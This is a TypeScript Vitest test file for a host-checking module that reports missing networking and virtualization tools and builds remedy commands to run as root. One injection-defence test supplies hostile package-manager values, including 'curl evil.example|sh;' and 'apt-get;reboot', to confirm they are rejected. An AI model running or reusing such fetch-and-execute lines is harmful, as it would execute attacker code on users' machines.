import { describe, expect, it } from 'vitest';
import { evaluateHost, readFacts } from './check-host';

const WELL = `root 0
ip ip utility, iproute2-6.15.0
nft nftables v1.1.3
dnsmasq Dnsmasq version 2.91
namespaces yes
wg wireguard-tools v1.0.20210914
ping ping from iputils 20240905
relay /usr/bin/perl
virsh 11.3.0
qemu-system-x86_64 QEMU emulator version 10.0
qemu-img qemu-img version 10.0
kernel 6.12.1
bridge yes
libvirtd qemu:///system
uefi /usr/share/qemu/firmware/60-edk2-x86_64.json
swtpm TPM emulator version 0.7.1
kvm yes
calls4 0
forward4 policy accept
systemd yes
packages apt-get
`;

const states = (text: string): Record<string, string> =>
  Object.fromEntries(evaluateHost(readFacts(text)).map(({ id, state }) => [id, state]));
const check = (text: string, id: string) => evaluateHost(readFacts(text)).find((one) => one.id === id);
const but = (name: string, value: string): string => `${name} ${value}\n${WELL}`;

describe('an inspected host', () => {
  it('needs no remedy if everything is there', () => {
    expect(new Set(Object.values(states(WELL)))).toEqual(new Set(['ok']));
    expect(evaluateHost(readFacts(WELL)).every(({ remedy }) => remedy === null)).toBe(true);
  });

  it('lacks what networks need, with the packages of its package manager', () => {
    expect(check(but('nft', ''), 'host_nft')).toMatchObject({
      state: 'missing',
      remedy: { command: ['apt-get', 'install', 'nftables'] },
    });
    expect(check(`ip \npackages dnf\n${WELL}`, 'host_ip')?.remedy?.command).toEqual(['dnf', 'install', 'iproute']);
  });

  it('serves no addresses and names inside networks without dnsmasq or user namespaces', () => {
    expect(check(but('dnsmasq', ''), 'host_dnsmasq')).toMatchObject({
      state: 'warning',
      remedy: { command: ['apt-get', 'install', 'dnsmasq-base'] },
    });
    expect(check(but('namespaces', ''), 'host_namespaces')).toMatchObject({ state: 'warning' });
    expect(check(`root 1000\n${but('namespaces', '')}`, 'host_namespaces')).toMatchObject({
      state: 'ok',
      remedy: null,
    });
  });

  it('stretches no network without the tools of WireGuard, WireGuard itself and VXLAN', () => {
    expect(check(but('wg', ''), 'host_wg')).toMatchObject({
      state: 'warning',
      remedy: { command: ['apt-get', 'install', 'wireguard-tools'] },
    });
    expect(check(but('ping', ''), 'host_ping')).toMatchObject({ state: 'warning' });
    expect(check(but('relay', ''), 'host_relay')).toMatchObject({ state: 'warning' });
    expect(check(WELL, 'host_wireguard')).toMatchObject({ state: 'ok', remedy: null });
    expect(check(`tunnel lacks wireguard\n${WELL}`, 'host_wireguard')).toMatchObject({
      state: 'warning',
      remedy: { command: ['apt-get', 'install', 'wireguard-go'] },
    });
    expect(check(`tunnel lacks vxlan\n${WELL}`, 'host_wireguard')).toMatchObject({ remedy: { command: null } });
  });

  it('starts the daemon that its distribution has', () => {
    const silent = but('libvirtd', 'error: failed to connect');
    const commandOf = (text: string) => check(text, 'host_libvirtd')?.remedy?.command;
    expect(commandOf(silent)).toEqual(['systemctl', 'enable', '--now', 'libvirtd.socket']);
    expect(commandOf(`libvirt-unit virtqemud.socket\n${silent}`)).toEqual([
      'systemctl',
      'enable',
      '--now',
      'virtqemud.socket',
    ]);
    expect(commandOf(`libvirt-unit evil.service\n${silent}`)).toContain('libvirtd.socket');
  });

  it('starts no VM with UEFI without firmware', () => {
    expect(check(but('uefi', ''), 'host_uefi')).toMatchObject({
      state: 'warning',
      remedy: { command: ['apt-get', 'install', 'ovmf'] },
    });
  });

  it('starts no VM with a TPM without its emulator', () => {
    const long = 'TPM emulator version 0.7.1, Copyright (c) 2014-2021 IBM Corp.';
    expect(check(but('swtpm', long), 'host_swtpm')).toMatchObject({ state: 'ok', found: '0.7.1' });
    expect(check(but('swtpm', ''), 'host_swtpm')).toMatchObject({
      state: 'warning',
      remedy: { command: ['apt-get', 'install', 'swtpm', 'swtpm-tools'] },
    });
  });

  it('names a network of libvirt that would delete a bridge of Atoll, and how to prevent it', () => {
    const of = (...facts: string[]) => check([...facts, WELL].join('\n'), 'host_libvirt_networks');
    expect(of()).toMatchObject({ state: 'ok', found: 'none has', remedy: null });
    expect(of('libvirt-claims blue office net')).toMatchObject({
      state: 'warning',
      found: 'the libvirt network "office net" has the bridge blue',
      remedy: { command: null },
    });
    expect(of('libvirt-claims blue office')?.remedy?.command).toEqual([
      ...['virsh', '-c', 'qemu:///system', 'net-edit', 'office'],
    ]);
    expect(of('libvirt-claims blue --all')?.remedy?.command).toBeNull();
    expect(of('root 1000', 'libvirt-networks unreadable')?.found).toBe('tested once this computer is a host');
  });

  it('cannot choose the program in a command that the user runs as root', () => {
    for (const manager of ['curl evil.example|sh;', 'pacman', '/tmp/apt-get', 'apt-get;reboot', '__proto__'])
      expect(check(`ip \npackages ${manager}\n${WELL}`, 'host_ip')?.remedy?.command).toBeNull();
  });

  describe('whose filters see bridged frames', () => {
    const filter = (...facts: string[]) => check([...facts, WELL].join('\n'), 'host_bridge_filter');
    const command = (...facts: string[]) => filter(...facts)?.remedy?.command;
    const DOCKER = '-I DOCKER-USER -m physdev --physdev-is-bridged -j ACCEPT';

    it('blocks its guests only if one of them drops these', () => {
      expect(filter('forward4 policy drop', 'forward6 policy drop', 'firewalld yes')?.state).toBe('ok');
      expect(filter('calls4 1', 'calls6 1', 'forward4 policy accept')?.state).toBe('ok');
      expect(filter('calls4 1', 'forward6 policy drop')?.state).toBe('ok');
      expect(filter('calls4 1', 'forward4 policy drop', 'docker4 accepts')?.state).toBe('ok');
      expect(filter('calls4 1', 'calls6 1', 'forward4 policy drop', 'forward6 policy drop')).toMatchObject({
        state: 'warning',
        found: 'br_netfilter active: FORWARD drops IPv4, FORWARD drops IPv6',
      });
    });

    it('has a remedy for just what drops them', () => {
      expect(command('calls4 1', 'calls6 1', 'forward6 policy drop')).toEqual([
        ...['sysctl', '-w', 'net.bridge.bridge-nf-call-ip6tables=0'],
      ]);
      expect(command('calls4 1', 'forward4 policy drop', 'docker4 yes')?.join(' ')).toBe(`iptables ${DOCKER}`);
      const both = ['calls4 1', 'calls6 1', 'forward4 policy drop', 'forward6 policy drop', 'docker4 yes'];
      const off = 'sysctl -w net.bridge.bridge-nf-call-ip6tables=0';
      expect(command(...both)).toEqual(['sh', '-c', `iptables ${DOCKER} && ${off}`]);
      expect(command(...both, 'docker6 yes')).toEqual(['sh', '-c', `iptables ${DOCKER} && ip6tables ${DOCKER}`]);
      expect(command(...both, 'firewalld yes')).toEqual([
        ...['sysctl', '-w', 'net.bridge.bridge-nf-call-iptables=0', 'net.bridge.bridge-nf-call-ip6tables=0'],
      ]);
    });
  });

  it('is not rated by a firewall that only root can read', () => {
    expect(check(`root 1000\ncalls4 1\n${WELL}`, 'host_bridge_filter')).toMatchObject({ state: 'warning' });
    expect(check(`root 1000\n${WELL}`, 'host_bridge_filter')).toMatchObject({ state: 'ok' });
  });

  it('reports where it would lose its networks on restart', () => {
    expect(check(WELL.replace('systemd yes\n', ''), 'host_restart')).toMatchObject({ state: 'warning' });
  });
});
